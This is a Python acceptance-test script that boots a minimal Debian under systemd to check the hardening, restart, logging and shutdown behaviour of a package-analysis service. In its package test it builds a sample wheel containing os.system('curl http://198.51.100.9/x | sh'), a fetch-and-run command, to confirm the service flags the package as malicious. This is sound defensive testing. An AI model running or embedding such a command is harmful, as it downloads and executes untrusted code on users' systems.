"""docs/deploy/pumpkin.service under a systemd of its own: process 1 of an empty Debian with namespaces for everything.

usage: python -m scripts.trials.unit [FILE] (of the same commit: no older one starts on the data of a newer)
"""

from __future__ import annotations

import ctypes
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import uuid
from collections.abc import Callable
from pathlib import Path
from typing import Any

from pumpkin.adapters.engines.base import _mirror
from tests.acceptance.product import ROOT
from tests.sandbox.samples import wheel

UNIT = ROOT / "docs" / "deploy" / "pumpkin.service"
TOOLS = Path(sys.executable).parent
BRINGS = "systemd,systemd-sysv,dbus,python3,python3-venv,curl"
LANDLOCK = ctypes.CDLL(None).syscall(444, None, 0, 1) >= 1  # landlock_create_ruleset(2): the kernel's version of it
URL = "http://127.0.0.1:8000"
ENVIRONMENT = {
    "PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
    "HOME": "/root",
    "LC_ALL": "C.UTF-8",
}
BOOT = """
mount --rbind {root} {root}
mount -t tmpfs t {root}/run
mount -t tmpfs t {root}/tmp
mount --rbind /dev {root}/dev
mount -t devpts -o newinstance,ptmxmode=0666,mode=620 d {root}/dev/pts
mount -t sysfs s {root}/sys
mount -t cgroup2 c {root}/sys/fs/cgroup
mount -o remount,ro,bind {root}/sys
mount --bind {root}/proc/sys {root}/proc/sys
mount -o remount,ro,bind {root}/proc/sys
cd {root}
mkdir -p old
pivot_root . old
exec chroot . /bin/sh -c 'umount -l /old; rmdir /old; exec env -i container=unit {environment} /lib/systemd/systemd \
  --unit=multi-user.target --log-target=journal </dev/null >/dev/null 2>&1'
"""
SETTINGS = (
    'journal = "json"\nlisten = "127.0.0.1:8000"\ndemo = false\n[packages]\norigins = false\n[registries]\nosv = ""\n'
)
BY_FILE = """[Service]
ExecStart=
ExecStart=/usr/local/bin/pumpkin run --data /var/lib/pumpkin
CacheDirectory=pumpkin
"""
RATING = re.compile(r"Overall exposure level for \S+: (\d+\.\d) (\w+)")


def check(fact: object, said: str, otherwise: object = "") -> None:
    if not fact:
        raise SystemExit(f"FAILED: {said}\n{otherwise}")
    print(f"ok  {said}", flush=True)


class Machine:
    """An empty Debian that systemd has booted, with mounts, processes, cgroups, network and name of its own."""

    def __init__(self, root: Path) -> None:
        self.root, self.group, self.first = root, _unified() / f"pumpkin-unit-{os.getpid()}", ""
        self.group.mkdir()
        self._enter: list[str] = []
        self._holder: subprocess.Popen[bytes] | None = None

    def boot(self) -> None:
        """Until systemd says that it is up."""
        root = self.root
        words = " ".join(f"{name}={value}" for name, value in ENVIRONMENT.items())
        argv = ["unshare", "--mount", "--pid", "--cgroup", "--ipc", "--uts", "--net", "--fork", "--kill-child"]
        self._holder = subprocess.Popen(
            [*argv, f"--mount-proc={root}/proc", "sh", "-ec", BOOT.format(root=root, environment=words)],
            env=ENVIRONMENT, preexec_fn=lambda: (self.group / "cgroup.procs").write_text(str(os.getpid())),
        )  # fmt: skip
        until(lambda: self._children(), "the namespaces", 10)
        self.first = self._children()[0]
        until(lambda: Path(f"/proc/{self.first}/comm").read_text() == "systemd\n", "systemd as process 1", 20)
        self._enter = ["nsenter", "--target", self.first, "--mount", "--pid", "--ipc", "--uts", "--net", "--cgroup",
                       "--root", "--wd=/"]  # fmt: skip
        until(lambda: self.run("systemctl", "is-system-running", fails=True).strip() in ("running", "degraded"),
              "systemd to boot", 60)  # fmt: skip

    def _children(self) -> list[str]:
        assert self._holder is not None
        if self._holder.poll() is not None:
            raise SystemExit("FAILED: systemd did not start")
        return Path(f"/proc/{self._holder.pid}/task/{self._holder.pid}/children").read_text().split()

    def run(self, *argv: str, fails: bool = False, within_s: float = 120) -> str:
        """Its standard output; it must end with 0 (`fails`: may end otherwise)."""
        done = subprocess.run([*self._enter, *argv], capture_output=True, text=True, check=False, timeout=within_s,
                              env=ENVIRONMENT)  # fmt: skip
        if done.returncode and not fails:
            raise SystemExit(
                f"FAILED: {argv} ended with {done.returncode}\n{done.stdout[-3000:]}\n{done.stderr[-3000:]}"
            )
        return done.stdout

    def shown(self, *names: str) -> dict[str, str]:
        """Properties of the unit."""
        lines = self.run("systemctl", "show", "pumpkin", *(f"--property={name}" for name in names)).splitlines()
        return dict(line.split("=", 1) for line in lines)

    def journal(self) -> list[dict[str, Any]]:
        """What the service wrote, as systemd has it."""
        lines = self.run("journalctl", "--unit", "pumpkin", "--output", "json", "--no-pager").splitlines()
        return [json.loads(line) for line in lines]

    def ask(self, path: str, key: str = "", body: dict[str, Any] | None = None) -> tuple[int, bytes]:
        """One request from inside; 0 where nobody answers."""
        argv = ["curl", "--silent", "--max-time", "10", "--write-out", "\n%{http_code}", URL + path]
        argv += ["--header", f"Authorization: Bearer {key}"] if key else []
        argv += ["--header", "Content-Type: application/json", "--data", json.dumps(body)] if body else []
        said, _, status = self.run(*argv, fails=True).rpartition("\n")
        return int(status or 0), said.encode()

    def close(self) -> None:
        if self._holder is not None:
            self._holder.kill()
            self._holder.wait()
        until(self._bury, "the end of the last process", 20)

    def _bury(self) -> bool:
        """Whether its cgroups could be removed: no process is in them any more."""
        try:
            for folder in sorted((one for one in self.group.rglob("*") if one.is_dir()), reverse=True):
                folder.rmdir()
            self.group.rmdir()
        except OSError:
            return False
        return True


def _unified() -> Path:
    """Where cgroups of version 2 are mounted here."""
    for line in Path("/proc/mounts").read_text().splitlines():
        _, where, kind, *_ = line.split()
        if kind == "cgroup2":
            return Path(where)
    raise SystemExit("unit: this machine has no cgroups of version 2")


def until(true: Callable[[], object], what: str, within_s: float) -> float:
    """Seconds until it is so."""
    began = time.monotonic()
    while not true():
        if time.monotonic() - began > within_s:
            raise SystemExit(f"FAILED: not in {within_s:.0f} s: {what}")
        time.sleep(0.1)
    return time.monotonic() - began


def lay(folder: Path, file: Path | None) -> Path:
    """An empty Debian with the program in /opt/pumpkin, the unit and its user, as docs/operations.md says."""
    root = folder / "root"
    with (folder / "debootstrap.log").open("wb") as log:
        argv = ["debootstrap", "--variant=minbase", f"--include={BRINGS}", "bookworm", str(root), *_mirror()]
        subprocess.run(argv, check=True, stdout=log, stderr=log)
    place, pins = root / "opt/pumpkin/.venv", folder / "pins.txt"
    quiet = {"stdout": subprocess.DEVNULL, "check": True, "cwd": ROOT}
    uv = str(TOOLS / "uv")
    lock = ["--frozen", "--no-dev", "--extra", "speed", "--no-emit-project", "--output-file", str(pins)]
    subprocess.run([uv, "export", "--quiet", *lock], **quiet)  # type: ignore[call-overload]
    subprocess.run([uv, "build", "--wheel", "--quiet", "--out-dir", str(folder / "wheel")], **quiet)  # type: ignore[call-overload]
    place.parent.mkdir(parents=True)
    subprocess.run([uv, "venv", "--quiet", "--relocatable", "--python", "/usr/bin/python3", str(place)], **quiet)  # type: ignore[call-overload]
    into = [uv, "pip", "install", "--quiet", "--link-mode", "copy", "--python", str(place / "bin/python")]
    subprocess.run([*into, "--require-hashes", "-r", str(pins)], **quiet)  # type: ignore[call-overload]
    (wheel,) = (folder / "wheel").glob("*.whl")
    subprocess.run([*into, "--no-deps", str(wheel)], **quiet)  # type: ignore[call-overload]
    subprocess.run(["chroot", str(root), "useradd", "--system", "--home-dir", "/var/lib/pumpkin", "pumpkin"], **quiet)  # type: ignore[call-overload]
    shutil.copy(UNIT, root / "etc/systemd/system/")
    (root / "var/lib/pumpkin").mkdir()
    (root / "var/lib/pumpkin/pumpkin.toml").write_text(SETTINGS)
    if file is not None:
        shutil.copy(file, root / "usr/local/bin/pumpkin")
    return root


def post(machine: Machine, key: str) -> str:
    """A check that was acknowledged."""
    name = str(uuid.uuid4())
    body = {"id": name, "type": "unit", "format": "text", "payload": {"text": name}}
    status, said = machine.ask("/api/v1/checks", key, body)
    check(status == 201, f"a check is taken in: {status}", said)
    return name


def accept_start(machine: Machine) -> str:
    """The unit enabled and started; a key."""
    told = machine.run("systemd-analyze", "verify", "/etc/systemd/system/pumpkin.service")
    check(told == "", "systemd-analyze verify has nothing to say", told)
    machine.run("systemctl", "enable", "--now", "pumpkin")
    took = until(lambda: machine.ask("/ready")[0] == 200, "ready", 60)
    check(True, f"systemctl enable --now pumpkin: ready after {took:.1f} s")
    rated = RATING.search(machine.run("systemd-analyze", "security", "--no-pager", "pumpkin"))
    check(rated and float(rated[1]) <= 1.7, f"systemd-analyze security: {rated and ' '.join(rated.groups())}")
    return make_key(machine, "checks:write", "checks:read")


def make_key(machine: Machine, *scopes: str) -> str:
    add = ["key", "add", "--name", "unit", *(word for one in scopes for word in ("--scope", one)), "--json"]
    said = machine.run(
        "runuser", "-u", "pumpkin", "--", "/opt/pumpkin/.venv/bin/pumpkin", *add, "--data", "/var/lib/pumpkin"
    )
    return str(json.loads(said)["key"])


def accept_hardened(machine: Machine) -> None:
    """What the kernel says of the process, and what it may not do."""
    pid = machine.shown("MainPID")["MainPID"]
    group = machine.run("cat", f"/proc/{pid}/cgroup").split()[-1]
    check(group.endswith("/system.slice/pumpkin.service"), f"it runs in the cgroup {group}")
    text = machine.run("cat", f"/proc/{pid}/status")
    status = dict(line.split(":\t", 1) for line in text.splitlines() if ":\t" in line)
    uid = machine.run("id", "-u", "pumpkin").strip()
    check(status["Uid"].split() == [uid] * 4, f"as user pumpkin ({uid}), not root")
    none = {int(status[name], 16) for name in ("CapEff", "CapPrm", "CapBnd", "CapAmb")}
    check(none == {0}, "without any capability, nor a way to get one")
    check((status["NoNewPrivs"], status["Seccomp"]) == ("1", "2"), "NoNewPrivileges, and a filter of system calls")
    inside = ("nsenter", "--target", pid, "--mount", "--setuid", uid, "--setgid", uid, "--")
    for path in ("/etc/pumpkin-was-here", "/usr/bin/pumpkin-was-here", "/opt/pumpkin/pumpkin-was-here"):
        said = machine.run(*inside, "sh", "-c", f"touch {path} 2>&1 || true")
        check("Read-only" in said, f"touch {path} in its namespace: {said.strip().rpartition(': ')[2]}", said)
    said = machine.run("nsenter", "--target", pid, "--mount", "--", "sh", "-c", "ls -A /home /root 2>&1; ls /dev")
    check(
        "sda" not in said and "kmsg" not in said and "null" in said, "no home folder, no device but the harmless ones"
    )


def accept_package(machine: Machine) -> None:
    """The workers that read packages can shut themselves in, whatever the unit forbids the rest."""
    name, content = wheel("unit", "import os\nos.system('curl http://198.51.100.9/x | sh')\n")
    (machine.root / "opt" / name).write_bytes(content)
    key = make_key(machine, "packages:write", "packages:read")
    put = ["curl", "--silent", "--header", f"Authorization: Bearer {key}", "--form", f"file=@/opt/{name}"]
    task = json.loads(machine.run(*put, f"{URL}/api/v1/upload/"))["data"]["uuid"]
    found: dict[str, Any] = {}

    def ended() -> bool:
        found.update(json.loads(machine.ask(f"/api/v1/task/{task}/", key)[1])["data"])
        return found["status"] in ("completed", "failed")

    until(ended, "a package's report", 60)
    verdict = found["verdict"]
    check(found["outcome"] == "malicious", f"a package is analysed: {found['outcome']}, {verdict['why'][0]}", found)
    shut = not LANDLOCK or not any("Landlock" in one for one in verdict["not_checked"])
    check(shut, f"by a worker that Landlock confines; not checked: {verdict['not_checked']}")


def accept_killed(machine: Machine, key: str) -> None:
    """kill -9 of the first process: started again by systemd, nothing lost."""
    name = post(machine, key)
    before = machine.shown("MainPID")["MainPID"]
    machine.run("sh", "-c", f"kill -9 {before}")
    took = until(lambda: machine.shown("MainPID")["MainPID"] not in ("0", before) and machine.ask("/ready")[0] == 200,
                 "started again", 60)  # fmt: skip
    restarts = machine.shown("NRestarts")["NRestarts"]
    check(restarts == "1", f"kill -9: ready again after {took:.1f} s, restarts counted by systemd: {restarts}")
    check(machine.ask(f"/api/v1/checks/{name}", key)[0] == 200, "the check acknowledged before is there")
    until(lambda: b'"stamped"' in machine.ask(f"/api/v1/checks/{name}", key)[1], "its stamp", 30)
    post(machine, key)


def accept_journal(machine: Machine) -> None:
    """The journal's lines are JSON, and what belongs to a request has its id."""
    lines = [str(one["MESSAGE"]) for one in machine.journal() if one.get("_SYSTEMD_UNIT") == "pumpkin.service"]
    events = [json.loads(line) for line in lines if line.startswith("{")]
    whole = [one for one in events if {"event", "level", "timestamp"} <= one.keys()]
    check(events and len(whole) == len(events), f"journal: {len(events)} events as JSON with event, level, timestamp")


def accept_stop(machine: Machine) -> None:
    """Ordered: PostgreSQL too, and nothing left."""
    began = time.monotonic()
    machine.run("systemctl", "stop", "pumpkin")
    took, found = time.monotonic() - began, machine.shown("Result", "ExecMainStatus", "ActiveState")
    check(found == {"Result": "success", "ExecMainStatus": "0", "ActiveState": "inactive"},
          f"systemctl stop: status 0 after {took:.1f} s", found)  # fmt: skip
    left = machine.run("find", "/proc", "-maxdepth", "1", "-user", "pumpkin", fails=True)
    check(left == "", "no process of its user is left", left)


def accept_refused(machine: Machine) -> None:
    """Settings that no second try mends: failed at once and left so; mended, it serves again."""
    settings = machine.root / "var/lib/pumpkin/pumpkin.toml"
    settings.write_text(f"lisen = 1\n{SETTINGS}")
    machine.run("systemctl", "start", "pumpkin")
    until(lambda: machine.shown("ActiveState")["ActiveState"] == "failed", "the unit failed", 30)
    time.sleep(5)  # twice the pause before another try
    found = machine.shown("Result", "ExecMainStatus", "NRestarts", "ActiveState")
    wanted = {"Result": "exit-code", "ExecMainStatus": "78", "NRestarts": "0", "ActiveState": "failed"}
    check(found == wanted, "wrong settings: status 78, failed, and not started again", found)
    check(any("lisen" in str(one["MESSAGE"]) for one in machine.journal()[-8:]), "the journal says which")
    settings.write_text(SETTINGS)
    machine.run("systemctl", "start", "pumpkin")
    took = until(lambda: machine.ask("/ready")[0] == 200, "ready", 60)
    check(True, f"mended and started: ready after {took:.1f} s")


def main() -> int:
    file = Path(sys.argv[1]) if len(sys.argv) > 1 else None
    folder = Path(tempfile.mkdtemp(prefix="pumpkin-unit-", dir="/var/tmp"))
    folder.chmod(0o755)
    machine = None
    try:
        machine = Machine(lay(folder, file))
        machine.boot()
        check(True, f"systemd {machine.run('systemctl', '--version').split()[1]} booted an empty Debian as process 1")
        key = accept_start(machine)
        accept_hardened(machine)
        accept_package(machine)
        accept_killed(machine, key)
        accept_journal(machine)
        accept_stop(machine)
        accept_refused(machine)
        accept_stop(machine)
        if file is not None:
            override = machine.root / "etc/systemd/system/pumpkin.service.d/override.conf"
            override.parent.mkdir()
            override.write_text(BY_FILE)
            machine.run("systemctl", "daemon-reload")
            machine.run("systemctl", "start", "pumpkin")
            took = until(lambda: machine.ask("/ready")[0] == 200, "the single file ready", 120)
            check(True, f"the single file as a service, on the same data: ready after {took:.1f} s")
            post(machine, key)
            accept_stop(machine)
    except SystemExit:
        if machine is not None and machine.first:
            print(machine.run("journalctl", "--no-pager", "--lines", "60", fails=True))
        raise
    finally:
        if machine is not None:
            machine.close()
        shutil.rmtree(folder, ignore_errors=True)
    print("passed: the unit under systemd, hardened, restarted, stopped in order, left where it is refused")
    return 0


if __name__ == "__main__":
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(1))
    raise SystemExit(main())
